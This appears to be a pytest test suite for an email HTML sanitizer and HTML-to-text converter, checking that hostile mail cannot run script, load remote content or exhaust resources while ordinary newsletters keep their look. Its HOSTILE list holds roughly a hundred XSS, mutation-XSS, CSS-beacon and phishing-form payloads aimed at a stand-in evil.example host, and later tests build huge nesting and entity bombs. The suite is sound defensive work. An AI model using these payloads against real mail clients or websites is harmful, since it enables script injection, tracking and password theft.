"""What a browser gets of a hostile mail can show, and do nothing else; real mail keeps its look."""

import resource
import time

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.core import html as cleaner
from apps.core.html import html_to_text, safe_html

NAMESPACE = "{http://www.w3.org/1999/xhtml}"
ATTRIBUTES = set(
    "style dir lang align valign title href src alt width height border hspace vspace color size"
    " face start type reversed value bgcolor cellpadding cellspacing colspan rowspan nowrap span"
    " target rel".split()
)
FORBIDDEN = set(
    "script style svg math form input button select textarea iframe object embed link meta base"
    " template noscript video audio source applet frame frameset title head body html".split()
)
IMAGES = {"logo@example.com": "/api/v1/attachments/7/content/", "a b": "/api/v1/attachments/8/"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:logo@example.com' onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<body onload=alert(1)>hello",
    "<div onclick='alert(1)' onmouseover=alert(1)>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://example.com/1'>x</a>",
    "<a href='/admin/logout/'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='?next=1'>x</a>",
    "<a href='#top' id=top name=top>x</a>",
    "<a href='cid:logo@example.com'>x</a>",
    "<a href='https://ok.example' target=_self rel=opener>x</a>",
    "<a href='https:evil'>x</a>",
    "<a href='view-source:https://x.example'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><script>alert(1)</script></select>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/t.gif)}</style>",
    "<p style='background:url(https://evil.example/t.gif)'>x</p>",
    "<p style='background-image:url(https://evil.example/t.gif)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/t.gif)'>x</p>",
    "<p style='background:/**/url(https://evil.example/t.gif)'>x</p>",
    "<p style='background:image-set(\"https://evil.example/t.gif\" 1x)'>x</p>",
    "<p style='list-style:URL(https://evil.example/t.gif)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x.xml)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<p style='content:\"x\"; cursor:url(https://evil.example/c)'>x</p>",
    "<p style='color:var(--x);--x:url(https://evil.example)'>x</p>",
    "<p style='font-family:\"x;background:url(//evil.example)'>x</p>",
    "<p class=modal id=app data-x=1 role=dialog contenteditable tabindex=1 is=x slot=y>x</p>",
    "<table background=https://evil.example/t.gif><td background=//evil.example/t.gif>x</table>",
    "<img src=https://evil.example/t.gif width=1 height=1>",
    "<img src=//evil.example/t.gif><img src=/admin/logout/>",
    "<img srcset='https://evil.example/t.gif 1x' src='cid:logo@example.com'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=cid:unknown@example.com>",
    "<img src='cid:logo@example.com' usemap=#m longdesc=https://evil.example lowsrc=x dynsrc=y>",
    "<picture><source srcset=https://evil.example/t.gif><img src=https://evil.example/t.gif></picture>",
    "<video poster=https://evil.example/t.gif src=x></video><audio src=https://evil.example></audio>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<p title='\"><script>alert(1)</script>'>x",
    "<p title=\"'onmouseover='alert(1)\">x",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=https://evil.example>y</q>",
    "<a href='https://ok.example/\"onclick=\"alert(1)'>x</a>",
    "<a href='mailto:x@example.com?subject=a\r\nBcc: y'>x</a>",
    "<td colspan=1000000 rowspan=99999999>x",
    "<font size='7;position:fixed' color='url(x)' face='\\75rl(x)'>x</font>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src='\0javascript:alert(1)'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=https://ok.example ping=https://evil.example download=x.exe>x</a>",
    "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
    "<dialog open>x</dialog><details open ontoggle=alert(1)>y</details>",
    "<p style='behavior:\\75 rl(#default#time2)' onbegin=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


def clean(html: str, *, remote_images: bool = False) -> str:
    return safe_html(html, cid_url=IMAGES.get, remote_url=on_our_site if remote_images else None)


def on_our_site(address: str) -> str:
    assert address.startswith(("https://", "http://")), address
    return f"/pictures/{len(address)}/"


def assert_harmless(safe: str, *, remote_images: bool = False) -> None:
    """As a browser builds it: only known tags and attributes, only known addresses."""
    for element in html5lib.parseFragment(safe).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert isinstance(element.tag, str), "a comment"
        assert element.tag.startswith(NAMESPACE), element.tag
        tag = element.tag.removeprefix(NAMESPACE)
        assert tag not in FORBIDDEN, tag
        for name, value in element.attrib.items():
            assert_harmless_attribute(tag, name, value, remote_images=remote_images)


def assert_harmless_attribute(tag: str, name: str, value: str, *, remote_images: bool) -> None:
    assert name in ATTRIBUTES, f"{tag} {name}"
    if name == "href":
        assert value.lower().startswith(("https://", "http://", "mailto:", "tel:")), value
        assert not set(value) & set("\t\r\n\0")
    elif name == "src":
        ours = value.startswith("/pictures/")
        assert value in IMAGES.values() or (remote_images and ours), value
    elif name == "target":
        assert value == "_blank"
    elif name == "rel":
        assert value == "noopener noreferrer"
    elif name == "style":
        lower = value.lower()
        for word in ("url", "expression", "image", "\\", "@", "/*", "var(", "position", "binding"):
            assert word not in lower, value
    elif name in ("colspan", "rowspan"):
        assert int(value) <= 100


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("remote_images", [False, True], ids=["local", "remote"])
def test_hostile_html_cannot_act(html: str, remote_images: bool) -> None:
    for page in (html, f"<table><tr><td>{html}</td></tr></table>", f"<p>before{html}after</p>"):
        assert_harmless(clean(page, remote_images=remote_images), remote_images=remote_images)


def test_all_hostile_html_in_one_long_mail_is_harmless_from_the_child_too() -> None:
    page = "".join(f"<div>{one}</div>" for one in HOSTILE if "plaintext" not in one) * 10
    assert page.count("<") > 1000
    assert_harmless(clean(page))


@pytest.mark.parametrize(
    "html", ["<p onclick=x>", "<svg></svg>", "<a href=//x>", "<p style='background:url(x)'>"]
)
def test_the_judge_sees_what_is_harmful(html: str) -> None:
    with pytest.raises(AssertionError):
        assert_harmless(html)


MIXED = st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4)


@settings(max_examples=60, deadline=None)
@given(MIXED, st.integers(0, 200), st.integers(0, 200))
def test_pieces_of_hostile_html_cannot_act_together(parts: list[str], cut: int, skip: int) -> None:
    joined = "".join(parts)
    assert_harmless(clean(joined[:cut] + joined[cut + skip :]))


@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ("<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>"),
        ('<p style="color: red; margin:0 auto">x</p>', '<p style="color:red;margin:0 auto">x</p>'),
        (
            "<p style=\"font:12px/1.5 'Segoe UI',Arial\">x</p>",
            "<p style=\"font:12px/1.5 'Segoe UI',Arial\">x</p>",
        ),
        ("<p style='color:rgb(1, 2, 3)'>x</p>", '<p style="color:rgb(1, 2, 3)">x</p>'),
        (
            '<img src="cid:logo@example.com" alt="Logo">',
            '<img src="/api/v1/attachments/7/content/" alt="Logo">',
        ),
        ('<img src="CID:a%20b">', '<img src="/api/v1/attachments/8/">'),
        ('<img src="cid:logo&#64;example.com">', '<img src="/api/v1/attachments/7/content/">'),
        ('a<img src="https://t.example/1.gif">b', "ab"),
        ('<img src="https://t.example/1.gif" alt="Sale">', '<img alt="Sale">'),
        ("<p class=x id=y>Ünïcödé 漢字 &amp; &lt;</p>", "<p>Ünïcödé 漢字 &amp; &lt;</p>"),
        ("<html><head><title>T</title></head><body><p>x</p></body></html>", "<p>x</p>"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_honest_html_keeps_its_look(html: str, shown: str) -> None:
    assert clean(html) == shown


def test_links_open_elsewhere_and_tell_nothing() -> None:
    safe = clean('<a href="https://shop.example/?a=1&amp;b=2">x</a>')
    assert 'href="https://shop.example/?a=1&amp;b=2"' in safe
    assert 'target="_blank"' in safe
    assert 'rel="noopener noreferrer"' in safe


def test_remote_images_come_only_when_asked_for() -> None:
    html = '<img src="https://shop.example/a.png">'
    assert clean(html) == ""
    assert clean(html, remote_images=True) == '<img src="/pictures/26/">'


def test_a_newsletter_is_rebuilt_in_the_child_with_its_images() -> None:
    row = '<tr><td style="color:#333"><img src="cid:logo@example.com"><b>Offer</b></td></tr>'
    safe = clean(f"<table>{row * 1000}</table>")
    assert safe.count("/api/v1/attachments/7/content/") == 1000
    assert safe.count('style="color:#333"') == 1000


@pytest.mark.parametrize(
    "html",
    [
        "<p>" + "".join(f"<font a={one}>" for one in range(5000)) + "<p>words" * 5000,
        "<div>" * 100_000 + "words",
        "<p " + " ".join(f"a{one}=1" for one in range(400_000)) + ">words",
        "<table><a>" * 20_000 + "words",
        "&amp" * 1_000_000 + "words",
        "<p>words" * 700_000,
        "<!--" * 500_000 + "words",
        '<a ">"' * 200_000 + "words",
    ],
    ids=["fonts", "depth", "attributes", "tables", "entities", "6 MB", "comments", "quotes"],
)
def test_a_bomb_stays_small_and_quick(html: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cleaner, "SECONDS", 1.0)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.process_time()
    safe = clean(html)
    assert time.process_time() - started < 4
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300 * 1024
    assert len(safe) < 2 * len(html) + 3 * 2**20


def test_8_kilobytes_that_would_become_megabytes_are_shown_as_text() -> None:
    fonts = "".join(f"<font a={one}>" for one in range(490))
    assert clean(f"<p>{fonts}" + "<p>word" * 490).startswith(
        '<div style="white-space:pre-wrap">word'
    )


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Hello  <b>World</b>,</p><p>two<br>lines</p>", "Hello World,\n\ntwo\nlines"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("<ul><li>a</li><li>b</ul>", "- a\n- b"),
        ("<blockquote>quoted<br>text</blockquote>mine", "> quoted\n> text\n\nmine"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "a b\nc"),
        ("<pre> x\n  y</pre>", " x\n  y"),
        ("a &amp; b&nbsp;c &lt;d&gt; 1 < 2", "a & b c <d> 1 < 2"),
        ("<style>p{}</style><script>x</script><!-- c -->words<title>t</title>", "words"),
        ("<img src=x alt='Logo'> words", "Logo words"),
        ("<p title='a>b'>words</p>", "words"),
        ("words<script>never closed", "words"),
        ("words<!-- never closed", "words"),
        ("<svg><p>words", "words"),
        ("<object>words", "words"),
        ("words<p never closed", "words"),
        ("a&#0;b&#1;c\x00d", "a\ufffdbcd"),
        ("", ""),
    ],
)
def test_html_as_words(html: str, text: str) -> None:
    assert html_to_text(html) == text


@pytest.mark.parametrize(
    "piece",
    [
        "<",
        "<svg>",
        "<object>x",
        "<a ",
        '<a ">"',
        '<a b="',
        "<!--",
        "<script>",
        "&",
        "</",
        "<blockquote>x",
        "<li>",
    ],
)
def test_words_come_in_linear_time(piece: str) -> None:
    started = time.process_time()
    html_to_text(piece * (2**20 // len(piece)))
    html_to_text("<script>" + piece * (2**20 // len(piece)))
    assert time.process_time() - started < 2
